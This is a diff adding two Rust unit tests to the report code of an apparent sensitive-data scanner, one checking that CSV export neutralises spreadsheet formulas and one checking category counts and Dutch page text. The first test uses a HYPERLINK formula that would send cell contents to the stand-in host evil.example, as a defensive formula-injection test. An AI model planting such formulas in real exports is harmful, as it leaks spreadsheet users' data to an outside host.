@@ -372,6 +372,57 @@ fn the_engine_finds_nothing_in_a_report_of_what_it_found() {
 }
 
 #[test]
+fn no_field_of_the_table_is_a_formula() {
+    let formula = || "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")".to_owned();
+    let mut finding = finding("nl-bsn", Severity::Low, &formula(), 1);
+    finding.location.part = Some(formula());
+    finding.detector = formula();
+    finding.title = formula();
+    finding.evidence = formula();
+    finding.article = "+31 6".to_owned();
+    finding.reason = Some(formula());
+    finding.fingerprint = formula();
+    finding.commit = Some("-1".to_owned());
+    let table = crate::csv(&[finding]).unwrap();
+    let mut rows = csv::Reader::from_reader(table.as_slice());
+    let row = rows.records().next().unwrap().unwrap();
+    let guarded = row.iter().filter(|field| field.starts_with('\'')).count();
+    assert_eq!(guarded, 9, "{row:?}");
+    assert!(
+        !row.iter()
+            .any(|field| field.starts_with(['=', '+', '-', '@'])),
+        "{row:?}"
+    );
+}
+
+#[test]
+fn the_table_of_categories_counts_what_the_tiles_count() {
+    let mut findings = findings();
+    let mut hostile = finding("file-hostile", Severity::Medium, "old/bomb.zip", 1);
+    hostile.category = Category::File;
+    findings.push(hostile);
+    let document = crate::of_scan(&scan("Review"), &findings, how(Locale::En));
+    let document = serde_json::to_value(&document).unwrap();
+    let categories = document["sections"][0]["sections"].as_array().unwrap();
+    let table = &categories.last().unwrap()["blocks"][0]["table"];
+    let mut counts = [0; 4];
+    for row in table["rows"].as_array().unwrap() {
+        for (count, cell) in counts.iter_mut().zip(&row.as_array().unwrap()[1..]) {
+            *count += cell[0]["text"].as_str().unwrap().parse::<u64>().unwrap();
+        }
+    }
+    assert_eq!(counts, [1, 0, 2, 1]);
+    let page = html(&crate::of_scan(&scan("Review"), &findings, how(Locale::Nl)));
+    for told in [
+        "Middel: 1 bevinding<",
+        "1 verdere bevinding gaat over bestanden zelf; zie “Wat niet gelezen kon worden”.",
+        "Wat niet gelezen kon worden: 2 bevindingen<",
+    ] {
+        assert!(page.contains(told), "{told}");
+    }
+}
+
+#[test]
 fn of_very_many_findings_the_worst_are_listed_and_the_rest_is_told() {
     let many: Vec<_> = (0..20_000)
         .map(|n| {
